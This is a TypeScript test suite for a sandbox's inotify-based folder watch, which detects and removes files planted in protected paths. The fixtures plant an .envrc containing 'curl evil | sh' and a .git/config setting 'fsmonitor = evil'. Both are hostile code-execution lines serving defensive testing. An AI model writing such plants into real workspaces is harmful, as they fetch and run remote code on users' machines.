// The folder watch (inotify through Deno's FFI) that lets the protected-path
// walks skip the folders nothing touched: a plant anywhere, during a call or
// between calls, is still found; any doubt (lost events, no watcher, the
// bound, a moved folder) means looking at every folder as before; the watch
// is closed with its executor; Node keeps looking at every folder.
import { describe, it } from "node:test";
import assert from "node:assert/strict";
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readlinkSync,
  renameSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { protectionGaps } from "../../../sandbox/protected/mod.ts";
import { type FolderEvents, openInotify } from "../../../sandbox/protected/_inotify.ts";
import { MAX_FOLDER_CHANGES, watchableRoot } from "../../../sandbox/protected/_folder_watch.ts";
import { tempWorkspace } from "../_fixtures.ts";
import {
  call,
  looksDuring,
  noWatch,
  settled,
  skip,
  tree,
  watched,
  watchedTree,
} from "./_watch_fixtures.ts";

/** The folders `tree` makes that a walk enters: the root, `packages`, and 4 per package. */
const walked = (packages: number) => 2 + 4 * packages;

/**
 * At most this many folders looked at by a launch the watch vouched for: the
 * root, and the folders of the global git config files (outside the roots,
 * never watched).
 */
const UNWATCHED_LOOKS = 6;

/** The inotify instances this process holds. */
function inotifyInstances(): number {
  return readdirSync("/proc/self/fd").filter((fd) => {
    try {
      return readlinkSync(`/proc/self/fd/${fd}`) === "anon_inode:inotify";
    } catch {
      return false;
    }
  }).length;
}

/** Real inotify whose next drain can be made to report an overflow (a full kernel queue). */
function overflowing(): { open: () => FolderEvents | string; overflowNext: () => void } {
  let overflow = false;
  return {
    open: () => {
      const events = openInotify();
      if (typeof events === "string") return events;
      return {
        add: (path) => events.add(path),
        remove: (wd) => events.remove(wd),
        drain: () => {
          const drained = events.drain();
          if (!overflow) return drained;
          overflow = false;
          return "overflow";
        },
        close: () => events.close(),
      };
    },
    overflowNext: () => overflow = true,
  };
}

describe("FolderWatch", { skip }, () => {
  it("vouches for an unchanged tree: the sweep and the next launch look at the root alone", async () => {
    using workspace = tempWorkspace();
    tree(workspace.root, 4);
    await settled();
    const memory = watched();
    try {
      const first = looksDuring(memory, () => call(workspace, memory));
      assert.ok(
        first.looks >= walked(4),
        `the first launch looks at every folder (${first.looks})`,
      );
      assert.equal(looksDuring(memory, () => first.value.settle()).looks, 1);
      const next = looksDuring(memory, () => call(workspace, memory));
      assert.ok(next.looks <= UNWATCHED_LOOKS, `the next launch looked at ${next.looks}`);
      assert.deepEqual(next.value.plan, first.value.plan);
      assert.equal(memory.listings.watchFallback, undefined);
    } finally {
      memory.close();
    }
  });

  it("finds a plant made during a call deep in an unchanged tree, in the sweep and at the next launch", async () => {
    using setup = await watchedTree(4);
    const { workspace, deep, memory } = setup;
    const paths = call(workspace, memory);
    const planted = [join(deep[2]!, ".git"), join(deep[3]!, ".envrc")];
    mkdirSync(planted[0]!);
    writeFileSync(join(planted[0]!, "config"), "[core]\n\tfsmonitor = evil\n");
    writeFileSync(planted[1]!, "curl evil | sh\n");
    const sweep = looksDuring(memory, () => paths.settle());
    assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
    assert.ok(sweep.looks < 5, `the sweep looked at the changed folders only (${sweep.looks})`);
    for (const path of planted) assert.equal(existsSync(path), false, path);
    // Planted again, between calls (an unconfined process): the next launch binds it.
    mkdirSync(planted[0]!);
    const next = call(workspace, memory);
    assert.ok(next.plan.readOnly.includes(planted[0]!));
  });

  it("binds at the next launch what an unconfined process made between calls", async () => {
    using setup = await watchedTree(3);
    const { workspace, deep, memory } = setup;
    call(workspace, memory).settle();
    mkdirSync(join(deep[0]!, ".git"));
    mkdirSync(join(deep[1]!, "c", ".vscode"), { recursive: true });
    const next = call(workspace, memory);
    assert.ok(next.plan.readOnly.includes(join(deep[0]!, ".git")));
    assert.ok(next.plan.readOnly.includes(join(deep[1]!, "c", ".vscode")));
  });

  it("finds a plant in a folder made during the call, and in one moved in from outside", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 3);
    const outside = join(workspace.base, "outside");
    mkdirSync(join(outside, "x", "y"), { recursive: true });
    await settled();
    const memory = watched();
    try {
      call(workspace, memory).settle();
      const paths = call(workspace, memory);
      // Made during the call, files first: no watch existed on the new folders
      // (within the walk's depth: packages/p0/src/new/deeper).
      const made = join(deep[0]!, "..", "..", "new", "deeper");
      mkdirSync(join(made, ".git"), { recursive: true });
      // Moved in, with its plant already inside.
      writeFileSync(join(outside, "x", "y", ".envrc"), "curl evil | sh\n");
      const moved = join(deep[1]!, "..", "..", "moved");
      renameSync(outside, moved);
      const planted = [join(made, ".git"), join(moved, "x", "y", ".envrc")];
      assert.deepEqual(paths.settle().map((v) => v.path).sort(), planted.sort());
      for (const path of planted) assert.equal(existsSync(path), false, path);
    } finally {
      memory.close();
    }
  });

  it("finds a plant in a watched folder renamed during the call, and in the one made in its place", async () => {
    using setup = await watchedTree(2);
    const { workspace, deep, memory } = setup;
    const paths = call(workspace, memory);
    // `a` (watched, with `a/b` below it) goes to `a2`; a new `a` takes its place.
    const a = join(deep[0]!, "..");
    renameSync(a, `${a}2`);
    mkdirSync(join(a, "b"), { recursive: true });
    const planted = [join(a, "b", ".git"), join(`${a}2`, "b", ".envrc")];
    mkdirSync(planted[0]!);
    writeFileSync(planted[1]!, "curl evil | sh\n");
    assert.deepEqual(paths.settle().map((v) => v.path).sort(), planted.sort());
    // The next call's plants in either are found too.
    const next = call(workspace, memory);
    writeFileSync(join(a, "b", ".envrc"), "curl evil | sh\n");
    writeFileSync(join(`${a}2`, "b", ".envrc"), "curl evil | sh\n");
    assert.equal(next.settle().length, 2);
  });

  it("looks at every folder after the kernel dropped events, and still finds the plant", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 3);
    await settled();
    const { open, overflowNext } = overflowing();
    const memory = watched(open);
    try {
      call(workspace, memory).settle();
      const vouched = looksDuring(memory, () => call(workspace, memory)).looks;
      assert.ok(vouched <= UNWATCHED_LOOKS, `the watch vouched for the tree (${vouched})`);
      const paths = call(workspace, memory);
      const planted = join(deep[1]!, ".envrc");
      writeFileSync(planted, "curl evil | sh\n");
      overflowNext();
      const sweep = looksDuring(memory, () => paths.settle());
      assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
      assert.ok(sweep.looks >= walked(3), `the sweep looked at every folder (${sweep.looks})`);
      assert.match(memory.listings.watchFallback ?? "", /overflowed/);
      // The next launch watches anew (looking at every folder), the one after vouches again.
      call(workspace, memory);
      assert.equal(memory.listings.watchFallback, undefined);
      const again = looksDuring(memory, () => call(workspace, memory)).looks;
      assert.ok(again <= UNWATCHED_LOOKS, `the watch vouched again (${again})`);
    } finally {
      memory.close();
    }
  });

  it("looks at every folder after a call made more folders than the watch follows one by one", async () => {
    using setup = await watchedTree(3);
    const { workspace, deep, memory } = setup;
    const paths = call(workspace, memory);
    // One folder more than the bound in a watched folder; a plant in the last.
    for (let index = 0; index <= MAX_FOLDER_CHANGES; index++) {
      mkdirSync(join(workspace.root, `d${index}`));
    }
    const planted = join(workspace.root, `d${MAX_FOLDER_CHANGES}`, ".envrc");
    writeFileSync(planted, "curl evil | sh\n");
    writeFileSync(join(deep[2]!, ".envrc"), "curl evil | sh\n");
    const sweep = looksDuring(memory, () => paths.settle());
    assert.deepEqual(
      sweep.value.map((v) => v.path).sort(),
      [join(deep[2]!, ".envrc"), planted].sort(),
    );
    assert.ok(sweep.looks >= walked(3), `the sweep looked at every folder (${sweep.looks})`);
    assert.match(
      memory.listings.watchFallback ?? "",
      new RegExp(`^${MAX_FOLDER_CHANGES + 1} folders were made`),
    );
  });

  it("looks at every folder when the mount table cannot be read, and says why", async () => {
    using setup = await watchedTree(2, undefined, undefined, () => {
      throw new Error("EACCES: permission denied, open '/proc/self/mountinfo'");
    });
    const { workspace, deep, memory } = setup;
    const paths = call(workspace, memory);
    const planted = join(deep[1]!, ".envrc");
    writeFileSync(planted, "curl evil | sh\n");
    const sweep = looksDuring(memory, () => paths.settle());
    assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
    assert.ok(sweep.looks >= walked(2), `the sweep looked at every folder (${sweep.looks})`);
    assert.match(memory.listings.watchFallback ?? "", /^the mount table cannot be read \(EACCES/);
  });

  it("looks at every folder when no watch can be made, and says why", async () => {
    using workspace = tempWorkspace();
    const deep = tree(workspace.root, 2);
    await settled();
    const memory = watched(() => "inotify_init1 failed (errno 24)");
    call(workspace, memory).settle();
    const paths = call(workspace, memory);
    const planted = join(deep[0]!, ".envrc");
    writeFileSync(planted, "curl evil | sh\n");
    const sweep = looksDuring(memory, () => paths.settle());
    assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
    assert.ok(sweep.looks >= walked(2), `the sweep looked at every folder (${sweep.looks})`);
    assert.match(memory.listings.watchFallback ?? "", /errno 24/);
  });

  it("looks by lstat at the folders past its bound, and says so", async () => {
    using setup = await watchedTree(3, undefined, 4);
    const { workspace, deep, memory } = setup;
    const paths = call(workspace, memory);
    const planted = deep.map((folder) => join(folder, ".envrc"));
    for (const path of planted) writeFileSync(path, "curl evil | sh\n");
    const sweep = looksDuring(memory, () => paths.settle());
    assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
    assert.ok(
      sweep.looks >= walked(3) - 4,
      `past the bound, folders are looked at (${sweep.looks})`,
    );
    assert.match(memory.listings.watchFallback ?? "", /bound \(4 folders\)/);
    // Said with the walk's other facts, in the call's enforcement gaps.
    const gap = protectionGaps([".git"], [], paths.watchBound).at(-1);
    assert.match(gap ?? "", /folder watch met its bound \(4 folders\)/);
  });

  it("closes its inotify instance with the walk memory, and watches nothing after", async () => {
    using workspace = tempWorkspace();
    tree(workspace.root, 2);
    await settled();
    const before = inotifyInstances();
    const memory = watched();
    call(workspace, memory).settle();
    assert.equal(inotifyInstances(), before + 1);
    memory.close();
    assert.equal(inotifyInstances(), before);
    const after = looksDuring(memory, () => call(workspace, memory).settle()).looks;
    assert.ok(after >= 2 * walked(2), `a closed watch vouches for nothing (${after})`);
    assert.equal(inotifyInstances(), before);
  });
});

describe(
  "FolderWatch without FFI",
  { skip: noWatch === false ? "this runtime has FFI" : false },
  () => {
    it("looks at every folder, and says why", async () => {
      using workspace = tempWorkspace();
      const deep = tree(workspace.root, 2);
      await settled();
      const memory = watched();
      call(workspace, memory).settle();
      const paths = call(workspace, memory);
      const planted = join(deep[1]!, ".envrc");
      writeFileSync(planted, "curl evil | sh\n");
      const sweep = looksDuring(memory, () => paths.settle());
      assert.deepEqual(sweep.value.map((v) => v.path), [planted]);
      assert.ok(sweep.looks >= walked(2), `the sweep looked at every folder (${sweep.looks})`);
      assert.ok(memory.listings.watchFallback !== undefined);
      memory.close();
    });
  },
);

describe("watchableRoot", () => {
  const table = [
    "22 1 253:0 / / rw,relatime shared:1 - ext4 /dev/vda rw",
    "30 22 0:26 / /mnt/nfs rw shared:2 - nfs4 server:/x rw",
    "31 22 0:27 / /srv/ws/inner rw shared:3 - tmpfs tmpfs rw",
    "32 22 0:28 / /home/a\\040b rw shared:4 - xfs /dev/vdb rw",
  ].join("\n");

  it("takes a root on a local file system with nothing mounted below it", () => {
    assert.equal(watchableRoot("/home/u/ws", table), true);
    assert.equal(watchableRoot("/home/a b/ws", table), true);
  });

  it("refuses a root on a network file system, or with a mount below it", () => {
    assert.equal(watchableRoot("/mnt/nfs/ws", table), false);
    assert.equal(watchableRoot("/srv/ws", table), false);
    assert.equal(watchableRoot("/srv/ws/inner", table), true);
  });
});
